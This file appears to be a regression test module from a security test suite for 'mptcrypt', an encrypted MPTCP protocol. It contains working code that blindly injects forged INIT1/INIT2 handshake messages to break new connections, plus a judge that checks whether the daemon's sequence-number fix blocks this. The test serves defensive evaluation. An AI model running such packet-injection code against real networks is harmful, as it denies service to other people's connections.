"""Attack 15 (mptcrypt-specific), blind INIT injection: kill a new connection's handshake knowing only its 4-tuple.

Issue 12 item 7. INIT1 (client -> server) and INIT2 (server -> client) are the only mptcrypt messages without a MAC:
no keys exist yet. The attacker sees the SYN of a NEW connection on path 1 (so it knows the 4-tuple) and sends a
burst of forged INIT1s to the server and INIT2s to the client with its own key material at guessed sequence and
acknowledgement numbers (blind: it does not use the ones it could sniff), from the SYN on for ~30 ms. A daemon that
takes an INIT at any seq/ack keys the subflow with the attacker's K_C (server) or server part (client) before the
real one arrives: both sides end up with different secrets, every segment fails its MAC and the handshake dies. Now
an INIT is accepted only with seq/ack right after both SYNs (`init_out_of_sequence` counts the others).
Plain MPTCP has no handshake to attack: n/a.

Effect measured: the connection failed or was reset, bytes changed, or it ended unprotected (no MAC on path 1,
`sessions` not protected).
"""

from __future__ import annotations

import os
import random
import socket
import time

from mptcrypt.attacks.flood import ETH, ETH_P_IP
from mptcrypt.attacks.judging import base_evidence, mounted
from mptcrypt.attacks.runner import BLOCKED, EFFECTIVE, ERROR, Evidence, Verdict
from mptcrypt.constants import NONCE_LEN, Msg, PubCipher, SymCipher
from mptcrypt.wire import messages as m
from mptcrypt.wire.rewrite import daemon_segment
from mptcrypt.wire.tcp import ACK, PSH

NUMBER = 15
TITLE = "blind INIT1/INIT2 injection into a new connection's handshake"
SOURCE = "issue 12 item 7 (INIT messages accepted at any seq/ack)"
BURST = 120  # forged INITs each way
BURST_GAP = 0.00025  # seconds between two pairs: the burst covers the ~30 ms after the SYN


def variants(target: str) -> list[str | None]:
    return [None] if target == "mptcrypt" else []  # plain MPTCP has no mptcrypt handshake: n/a


def prepare(ctx) -> None:
    """Fresh daemons: with the session the client cached in an earlier cell the connection would resume (NEXTK1,
    no INIT message to attack)."""
    if ctx.daemons is not None and ctx.daemons.procs:
        policy = ctx.daemons.policy
        ctx.daemons.stop()
        ctx.daemons.ensure(policy)


def _x25519_public() -> bytes:
    from cryptography.hazmat.primitives.asymmetric.x25519 import X25519PrivateKey
    from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat

    return X25519PrivateKey.generate().public_key().public_bytes(Encoding.Raw, PublicFormat.Raw)


def _forged(src: str, sport: int, dst: str, dport: int, marker: int, payload: bytes, rng: random.Random) -> bytes:
    """An INIT segment as a daemon makes it, at a guessed seq/ack."""
    return daemon_segment(socket.inet_aton(src), sport, socket.inet_aton(dst), dport, rng.getrandbits(32),
                          rng.getrandbits(32), ACK | PSH, m.Marker(marker).encode(), payload)


def setup(agent) -> None:
    """Before the connection: resolve both hosts' link addresses (ARP) and make the forged messages' key material;
    at the SYN there is no time for either (the handshake takes ~10 ms here)."""
    from mptcrypt.attacks.flood import resolve_macs

    agent.view.macs.update(resolve_macs([agent.view.client, agent.view.server]))
    agent.forged_init1 = m.Init1(PubCipher.X25519, (SymCipher.AES128, SymCipher.CHACHA20), os.urandom(NONCE_LEN),
                                 _x25519_public()).encode()
    agent.forged_init2 = m.Init2(SymCipher.AES128, _x25519_public() + os.urandom(NONCE_LEN)).encode()


def at_syn(agent) -> dict:
    """Runs as soon as the SYN is seen: the burst starts at once and covers the handshake (the server daemon waits
    for INIT1 from its SYN-ACK on, the client's for INIT2 from its INIT1 on)."""
    v = agent.view
    if v.server not in v.macs or v.client not in v.macs:
        return {"skipped": "the hosts' link addresses are unknown"}
    rng = random.Random()
    to_server = ETH.pack(v.macs[v.server], agent.tap.mac, ETH_P_IP)
    to_client = ETH.pack(v.macs[v.client], agent.tap.mac, ETH_P_IP)
    t0 = time.time()
    for _ in range(BURST):  # each pair built just before it is sent: the first leaves within a millisecond
        agent.tap.send(to_server + _forged(v.client, v.cport, v.server, v.port, Msg.INIT1, agent.forged_init1, rng))
        agent.tap.send(to_client + _forged(v.server, v.port, v.client, v.cport, Msg.INIT2, agent.forged_init2, rng))
        time.sleep(BURST_GAP)
    agent.actions.append({"t": round(t0, 4), "what": f"{BURST} forged INIT1 to the server and {BURST} forged INIT2 "
                          "to the client at guessed seq/ack", "seconds": round(time.time() - t0, 4)})
    return {"forged_init1": BURST, "forged_init2": BURST, "burst_after_syn_ms": round((t0 - v.syn_t) * 1e3, 2),
            "burst_ms": round((time.time() - t0) * 1e3, 1)}


def attack(agent) -> dict:
    return {}  # all done at the SYN; the agent keeps watching path 1 (MACs, plaintext)


def judge(ev: Evidence) -> Verdict:
    t = ev.transfer
    rows = {h: ev.conn_sessions(h) for h in ("client", "server")}
    protected = {h: bool(r) and all(x.get("protected") for x in r) for h, r in rows.items()}
    seen = ev.view.get("plaintext_records_seen") or {}
    leaked = int(seen.get("UP", 0)) + int(seen.get("DN", 0))
    evidence = {**base_evidence(ev), "protected": protected, "mac_segments_seen": ev.view.get("mac_segments", 0),
                "plaintext_records_on_path1": leaked, "burst_after_syn_ms": ev.result.get("burst_after_syn_ms"),
                "init_out_of_sequence": {h: ev.stat(h, "init_out_of_sequence") for h in ("client", "server")},
                "handshake_failures": {h: ev.stat(h, "handshake_failures") for h in ("client", "server")}}
    why_not = mounted(ev, need_keys=False)
    if why_not and t["connected"]:
        return Verdict(ERROR, why_not, evidence)
    if not t["connected"] or t["connection_died"] or not t["intact"]:
        return Verdict(EFFECTIVE, "the handshake was killed: " + (t["connect_error"] or "the connection died")
                       + ("" if t["intact"] else " (bytes lost or changed)"), evidence)
    if leaked or not ev.view.get("mac_segments") or not all(protected.values()):
        return Verdict(EFFECTIVE, f"the connection ended unprotected ({leaked} records readable)", evidence)
    n = evidence["init_out_of_sequence"]
    if not n["server"] and not n["client"]:
        return Verdict(ERROR, "no forged INIT reached a daemon (init_out_of_sequence 0 on both)", evidence)
    return Verdict(BLOCKED, f"forged INITs ignored (init_out_of_sequence client {n['client']}, server "
                   f"{n['server']}): the handshake completed protected; transfer intact", evidence)
